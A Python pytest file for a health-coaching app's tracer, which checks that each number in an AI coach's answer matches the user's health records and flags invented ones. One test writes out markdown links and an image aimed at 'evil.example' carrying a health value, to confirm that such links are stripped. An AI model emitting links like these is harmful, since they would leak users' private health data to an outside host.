import re
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from healthvault.coach.analyst.look import Look
from healthvault.coach.analyst.voice import Voice
from healthvault.coach.context import facts
from healthvault.coach.figures.plain import plain
from healthvault.coach.prompt import messages
from healthvault.coach.trace import MARK, Evidence, remembered, trace
from tests.coach.adversary import invented
from tests.coach.paper import somebody
from tests.insights.test_recent import TODAY

MARKED = re.compile(rf"\[([^\]]*)\]\({MARK}\)")
RATE = "/trends?metric=resting_heart_rate&range=day&end=2026-11-23"


async def what_is_told():
    told = Evidence(TODAY)
    known = await facts(Look(book=somebody(), voice=Voice(units="metric", today=TODAY)))
    for fact in known:
        told.tell(fact.said)
    told.tell(messages("How am I?", known, "", (), today=TODAY, room=50_000)[0].text)
    return told


def evidence(*said, question=""):
    told = Evidence(TODAY)
    for each in said:
        told.tell(each)
    told.tell(question, is_asked=True)
    return told


def marks(answer, *said, question=""):
    return MARKED.findall(trace(answer, evidence(*said, question=question)).text)


async def test_of_500_answers_that_make_numbers_up_none_keeps_one_unmarked():
    told = await what_is_told()
    for each in invented(500):
        text = trace(each.answer, told).text
        assert MARKED.search(text), (each, text)
        assert each.number not in plain(MARKED.sub("", text)).text, (each, text)


async def test_no_number_of_the_facts_themselves_is_ever_marked():
    told = await what_is_told()
    for fact in await facts(Look(book=somebody(), voice=Voice(units="metric", today=TODAY))):
        assert trace(fact.said, told).unknown == 0, fact


async def test_no_number_of_the_facts_is_marked_when_somebody_says_it_in_other_words():
    told = await what_is_told()
    for said in Path(__file__).with_name("reworded.txt").read_text().split("\n====\n"):
        assert MARKED.findall(trace(said, told).text) == [], said


REWORDED = {
    "54 bpm": ("54 beats per minute", "54bpm", "54 beats a minute", "fifty-four beats", "54 Schläge"),
    "8,412 steps": ("8412 steps", "8.412 Schritte", "8 412 steps", "some 8,400 steps", "8.4k steps"),
    "7 h 32 min": ("7 hours and 32 min", "7h32", "7:32", "7.5 hours", "7½ hours", "452 minutes", "8 hours"),
    "23:10 to 06:42": ("11:10 pm", "6:42", "11:10 p.m. until 6:42 a.m.", "23:10 Uhr", "11 pm"),
    "82.4 kg": ("82 kg", "82,4 kg", "82.4 kilos", "−82.4 kg", "eighty-two kilos"),
    "93%": ("93 %", "93 percent", "ninety-three per cent", "93 Prozent"),
    "5 of 7 days": ("5 days", "five nights", "five of the last seven days", "5 out of 7 days", "5 nights"),
    "30 min": ("half an hour", "30 minutes", "thirty minutes", "½ hour"),
    "52–54 bpm (58 days)": ("between 52 and 54 bpm", "52 to 54", "58 measured days", "a range of 52-54"),
    "120/80 mmHg": ("120 over 80", "120/80", "80 mmHg"),
    "14 days": ("two weeks", "14 nights", "fourteen days"),
}  # fmt: skip


@pytest.mark.parametrize("told", REWORDED)
def test_a_number_may_be_told_in_other_words(told):
    extra = "2 readings, two weeks"
    for said in REWORDED[told]:
        assert marks(f"It was {said} on 3 Nov.", told, extra, "3 Nov 2026") == [], said


OTHERS = {
    "54 bpm": ("54 steps", "54.3 bpm", "55 bpm", "54 kg", "54 pushups", "54%", "540 bpm", "5.4 bpm", "54 ms"),
    "8,412 steps": ("8,412 bpm", "8,500 steps", "8,413 steps", "8.5k steps", "8,000 steps", "8.412,5 steps"),
    "7 h 32 min": (
        "7 h 33 min",
        "7:33",
        "7.6 hours",
        "six hours",
        "an hour and a half",
        "7 days",
        "732 minutes",
    ),
    "23:10 to 06:42": ("23:11", "11:10 am", "10 pm"),
    "5 of 7 days": ("six days", "5 weeks", "half of your days", "twice as many", "a third of your nights"),
    "1.2 km": ("1.2 miles", "1.2 kg", "1,234 km", "1200 steps"),
}


@pytest.mark.parametrize("told", OTHERS)
def test_another_number_or_another_unit_is_another_thing(told):
    for said in OTHERS[told]:
        assert marks(f"It was {said}.", told) != [], said


ABROAD = {
    "zweiundfünfzig Schläge pro Minute": "52 bpm",
    "hundertzwanzig Schritte": "120 steps",
    "siebenunddreissig Nächte": "37 nights",
    "cinquante-deux battements par minute": "52 bpm",
    "quatre-vingt-dix-neuf pas": "99 steps",
    "deux cents pas": "200 steps",
    "trente et un jours": "31 days",
    "cincuenta y dos latidos por minuto": "52 bpm",
    "ciento veinte pasos": "120 steps",
    "veintidós noches": "22 nights",
}


@pytest.mark.parametrize("said", ABROAD)
def test_a_number_in_the_words_of_another_language_is_traced_too(said):
    assert marks(f"Es waren {said}.", ABROAD[said]) == []
    assert marks(f"Es waren {said}.", "7 steps") == [said]


def test_words_that_only_sound_like_numbers_of_another_language_are_none():
    assert marks("Once a day six of one is worth a cent, and sept or dix are ten per cent.", "10%") == []


def test_a_number_leads_to_where_it_was_measured():
    text = trace("At rest it was **54** bpm.", evidence(f"Resting heart rate: **[54 bpm]({RATE})**")).text
    assert text == f"At rest it was **[54 bpm]({RATE})**."


def test_of_two_sources_the_one_that_the_sentence_names_is_taken():
    told = evidence("[54 bpm](/trends?metric=heart_rate&range=day&end=2026-11-22)", f"[54 bpm]({RATE})")
    assert RATE in trace("Your resting heart rate was 54.", told).text


def test_what_stands_beside_a_number_leads_where_it_leads():
    told = evidence(f"Resting heart rate: [54 bpm]({RATE}), usual 52–56 bpm (58 days).\nSteps: 60 steps")
    said = "Usual is 52–56 bpm, of 58 days; 60 steps."
    assert trace(said, told).text == f"Usual is [52–56 bpm]({RATE}), of 58 days; 60 steps."


def test_a_range_with_an_invented_end_is_invented():
    assert marks("Sleep 7–9 hours, or 7 hours and 9 hours.", "7 h") == ["7–9 hours", "9 hours"]


def test_a_number_without_a_unit_is_of_what_its_sentence_names():
    assert marks("Your resting heart rate was 54.", "54 steps") == ["54"]
    assert marks("Your resting heart rate was 54.", "54 bpm") == []
    assert marks("It was 54.", "54 steps") == []


def test_what_the_person_asked_about_may_be_said_again():
    assert marks("10,000 steps would be more.", question="Are 10,000 a good goal?") == []
    assert marks("10,000 steps would be more.") == ["10,000 steps"]


def test_dates_are_known_where_the_records_reach_and_marked_beyond():
    told = "from Tue 3 Nov 2024 to today"
    assert marks("On 14 March 2025, in 2026 and on 2026-11-03.", told) == []
    assert marks("On 14 March 2019, in 2018 and on 2031-01-03.", told) == [
        "14 March 2019",
        "2018",
        "2031-01-03",
    ]


def test_lists_ordinals_and_names_are_no_numbers():
    said = "1. Your VO2max and SpO2\n2. zone 2, the 2nd best\n3. two things, one of them, type 2, 24/7"
    assert marks(said) == []


def test_a_list_after_a_number_is_no_part_of_it():
    assert marks("1. You slept 7 hours\n2. You walked\n\nThen 7 hours\n\n1. More", "7 h 12 min") == []


def test_a_line_that_only_looks_like_a_list_hides_nothing():
    assert marks("It was\n52. That is much.") == ["52"]


def test_links_and_pictures_of_a_model_are_taken_out():
    said = (
        "See [this](https://evil.example/?d=54), ![x](https://evil.example/54) and https://evil.example/54."
    )
    assert trace(said, evidence("54 bpm")).text == "See this,  and (an address)"


def test_a_model_hears_its_own_answer_without_links_and_with_its_doubts():
    traced = trace("It was 54 bpm, not 99 bpm.", evidence(f"[54 bpm]({RATE})")).text
    assert remembered(traced) == "It was 54 bpm, not 99 bpm (not from the data)."


amounts = st.tuples(
    st.sampled_from(
        [("bpm", "beats per minute"), ("kg", "kilograms"), ("kcal", "calories"), ("steps", "steps")]
    ),
    st.decimals(min_value=1, max_value=99_999, places=1, allow_nan=False),
)


@given(told=st.lists(amounts, min_size=1, max_size=6), places=st.integers(0, 1), is_german=st.booleans())
@settings(max_examples=150, deadline=None)
def test_what_was_told_is_never_marked_however_it_is_rounded(told, places, is_german):
    known = evidence(*(f"{value:,.1f} {unit[0]}" for unit, value in told))
    for unit, value in told:
        said = f"{value:,.{places}f}"
        said = said.translate(str.maketrans(",.", ".,")) if is_german else said
        assert trace(f"Your number was {said} {unit[1]} then.", known).unknown == 0


@given(said=st.text(max_size=200))
@settings(max_examples=150, deadline=None)
def test_any_text_can_be_traced_and_only_our_links_are_left(said):
    text = trace(said, evidence("54 bpm", "3 Nov")).text
    assert set(re.findall(r"\]\(([^)]*)\)", text)) <= {MARK}


def test_a_span_that_was_looked_at_holds_its_dates():
    told = Evidence(TODAY)
    told.span(date(2021, 1, 1), date(2021, 12, 31))
    assert trace("On 3 May 2021.", told).unknown == 0
